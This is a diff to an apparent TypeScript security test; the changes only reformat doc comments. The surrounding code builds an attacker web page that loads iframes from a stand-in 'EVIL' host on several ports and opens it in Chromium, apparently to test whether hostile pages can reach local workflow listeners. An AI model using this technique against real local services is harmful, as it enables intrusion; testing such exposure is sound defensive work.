@@ -61,7 +61,10 @@ async function listeners(): Promise<readonly Listener[]> {
   });
 }
 
-/** What a page tries on the port that it came from: everything with which a workflow could be started. */
+/**
+ * What a page tries on the port that it came from: everything with which a workflow could be
+ * started.
+ */
 const attack = (own: boolean, ports: readonly number[]) => `<!doctype html>
 ${ports.map((port) => `<iframe src="http://${EVIL}:${port}/attack"></iframe>`).join('')}
 <script>
@@ -94,7 +97,10 @@ const quietly = (way) => way.catch(() => undefined);
 })();
 </script>`;
 
-/** The way of a page's requests: the first for each port is answered by the attacker, the others by who listens there. */
+/**
+ * The way of a page's requests: the first for each port is answered by the attacker, the others by
+ * who listens there.
+ */
 async function openWay(target: (port: number) => Listener, ports: readonly number[]) {
   const reports = new Map<number, readonly unknown[]>();
   const server: Server = createServer((asked, answer) => {
@@ -123,7 +129,10 @@ async function openWay(target: (port: number) => Listener, ports: readonly numbe
   return { server, reports, port: (server.address() as AddressInfo).port };
 }
 
-/** Opens the attacker's page in Chromium under its own port and those ports; gives what each of them was told. */
+/**
+ * Opens the attacker's page in Chromium under its own port and those ports; gives what each of them
+ * was told.
+ */
 async function visit(ports: readonly number[], target: (port: number) => Listener) {
   const { server, reports, port } = await openWay(target, ports);
   const profile = await mkdtemp(path.join(folder, 'profile-'));
